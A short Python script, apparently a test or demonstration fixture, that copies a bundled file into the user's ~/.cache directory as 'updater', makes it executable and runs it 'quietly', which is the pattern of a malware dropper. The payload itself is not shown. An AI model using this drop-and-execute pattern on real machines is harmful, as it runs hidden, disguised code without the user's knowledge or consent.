"""Drops a program that needs no library, makes it executable and runs it."""

import os
import subprocess
from pathlib import Path


def main():
    program = Path.home() / ".cache" / "updater"
    program.parent.mkdir(exist_ok=True)
    program.write_bytes(Path(__file__).with_name("dropped").read_bytes())
    program.chmod(0o755)
    subprocess.run([os.fspath(program), "quietly"], check=False)
